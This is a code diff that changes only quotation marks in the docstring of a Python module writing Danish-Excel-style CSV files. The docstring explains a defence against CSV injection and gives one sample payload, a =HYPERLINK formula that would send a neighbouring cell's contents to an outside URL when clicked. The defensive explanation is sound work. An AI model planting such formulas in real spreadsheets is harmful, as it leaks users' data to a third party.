@@ -1,4 +1,4 @@
-"""Every CSV the calculators write (a result, «Følg op», the cluster's overview, the cluster data file), as Danish
+"""Every CSV the calculators write (a result, »Følg op«, the cluster's overview, the cluster data file), as Danish
 Excel opens it: `;` between cells, CRLF line ends and a byte order mark first.
 
 Quoted as the csv module's QUOTE_MINIMAL does, without importing it, which the browser's worker would pay for at
@@ -8,7 +8,7 @@ spreadsheet takes "1.234" for a decimal.
 A text cell that begins with =, +, -, @, a tab or a carriage return is run by Excel as a formula, quoted or not
 (OWASP, "CSV Injection"): a cluster name `=HYPERLINK("http://…?d="&B2;"Klik")` would send a neighbouring cell away
 when clicked. Such a cell gets a leading apostrophe, as OWASP advises, so Excel shows it as text. Numbers are left
-alone: «Følg op»'s change of -51,8 stays a number.
+alone: »Følg op«'s change of -51,8 stays a number.
 """
 
 from __future__ import annotations
